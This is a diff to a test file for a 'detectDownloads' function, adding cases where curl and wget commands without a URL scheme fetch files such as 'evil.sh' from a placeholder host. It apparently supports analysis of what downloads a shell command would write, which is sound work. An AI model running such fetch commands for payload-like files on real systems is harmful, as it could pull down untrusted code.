@@ -39,6 +39,10 @@ describe("detectDownloads", () => {
     // Globbing in the host, which URL() refuses: the name is the path's.
     ["curl -O 'https://cdn[1-2].x.test/evil.sh'", ["evil.sh"]],
     ["curl -O 'https://{a,b}[1-2].x.test/{evil,ok}.sh'", ["{evil,ok}.sh", "./"]],
+    // A URL without a scheme is http to curl and wget.
+    ["curl -O x.test/dl/evil.sh", ["evil.sh"]],
+    ["wget -q x.test/dl/evil.sh", ["evil.sh"]],
+    ["wget -r x.test/dl/", ["x.test/"]],
     // wget -i reads its URLs from a file: the names are not on the line.
     ["wget -i urls.txt", ["./"]],
     ["wget -q -P d --input-file=urls.txt", ["d/"]],
